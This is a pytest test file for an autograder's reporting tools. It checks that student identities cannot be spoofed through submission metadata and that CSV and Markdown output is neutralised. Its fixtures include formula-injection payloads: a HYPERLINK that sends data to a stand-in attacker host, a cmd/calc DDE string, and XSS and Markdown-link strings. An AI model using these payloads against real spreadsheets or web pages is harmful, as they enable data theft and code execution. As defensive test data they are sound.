"""Issue 12 item 8: what the instructor's tools write from students' work is data, not code.

- identities in ``gradebook.csv`` come only from the instructor's Gradescope export, never from a
  ``submission_metadata.json``/``.yml`` committed inside a student's folder;
- no cell of any CSV the project writes starts like a spreadsheet formula;
- ``report.md`` shows student-derived text (entry and file names, notes) as text: no HTML tag,
  no Markdown link or image.
"""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path

from autograder.batchgrade import Graded, write_csv
from autograder.classreport import write_class_report
from autograder.classreport.gradebook import export_users, gradebook_rows
from autograder.classreport.render import escape
from autograder.questions import NUMPY_QUESTIONS
from autograder.safecsv import FORMULA_START, cell

QUESTIONS = [q.id for q in NUMPY_QUESTIONS]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
HTML_NAME = '<img src=x onerror="alert(1)">.ipynb'


def _entry(root: Path, name: str, **fields) -> Graded:
    entry = root / name
    entry.mkdir(parents=True, exist_ok=True)
    return Graded(submission=name, entry=entry, graded=True, **fields)


def test_identities_never_come_from_inside_a_submission(tmp_path):
    export_users.cache_clear()
    victim = {"users": [{"name": "Top Student", "email": "top@example.edu", "id": 1}]}
    spoof = _entry(tmp_path, "lecture16-mallory", total=100.0)
    (spoof.entry / "submission_metadata.json").write_text(json.dumps(victim))
    (spoof.entry / "submission_metadata.yml").write_text(
        "lecture16-mallory:\n  :submitters:\n  - :name: Top Student\n    :email: top@example.edu\n")
    other = _entry(tmp_path, "lecture16-trent", total=10.0)
    rows = gradebook_rows([spoof, other], QUESTIONS)
    assert {r["student"] for r in rows} == {"mallory", "trent"}
    assert "top@example.edu" not in json.dumps(rows)


def test_the_instructors_export_still_names_students(tmp_path):
    export_users.cache_clear()
    (tmp_path / "submission_metadata.yml").write_text(
        "submission_7:\n  :submitters:\n  - :name: Ada Lovelace\n    :email: ada@example.edu\n"
        "    :sid: '42'\n")
    rows = gradebook_rows([_entry(tmp_path, "submission_7", total=80.0)], QUESTIONS)
    assert [(r["student"], r["email"], r["id"]) for r in rows] == [
        ("Ada Lovelace", "ada@example.edu", "42")]


def test_cell_neutralises_formulas_and_keeps_numbers():
    for text in FORMULAS:
        assert cell(text) == "'" + text
    assert cell("alice") == "alice" and cell(-3.5) == -3.5 and cell(0) == 0


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [value for row in csv.reader(f) for value in row]


def test_no_csv_cell_starts_like_a_formula(tmp_path):
    export_users.cache_clear()
    records = [_entry(tmp_path / "class", f"lecture16-{text}" if i % 2 else text, total=50.0,
                      note=text, file=text + ".py", by_question={QUESTIONS[0]: 5.0})
               for i, text in enumerate(FORMULAS)]
    out = tmp_path / "out"
    write_csv(records, out / "grades.csv")
    written = write_class_report(records, out, title="=1+1")
    gradebook = next(p for p in written if p.name == "gradebook.csv")
    for path in (out / "grades.csv", gradebook):
        cells = _cells(path)
        assert len(cells) > 10 * len(FORMULAS)
        bad = [c for c in cells if c.startswith(FORMULA_START)]
        assert not bad, (path.name, bad)
        assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_report_shows_student_text_as_text(tmp_path):
    export_users.cache_clear()
    records = [_entry(tmp_path / "class", "<script>alert(1)</script>", note=f"graded {HTML_NAME}"),
               Graded(submission="[click](http://evil.example) ![x](http://evil.example/x.png)",
                      entry=tmp_path / "class" / "x", note="no submission")]
    out = tmp_path / "out"
    report = [p for p in write_class_report(records, out, title="<b>class</b>")
              if p.name == "report.md"][0].read_text()
    for raw in ("<script", "<img", "<b>"):
        assert raw not in report, raw
    student_lines = [line for line in report.splitlines() if "evil.example" in line]
    assert student_lines and not [line for line in student_lines  # (the report's own plots
                                  if re.search(r"(?<!\\)\]\(", line)]  # are images)
    assert "\\[click\\](http://evil.example)" in report  # shown, not a link
    assert escape(HTML_NAME) in report
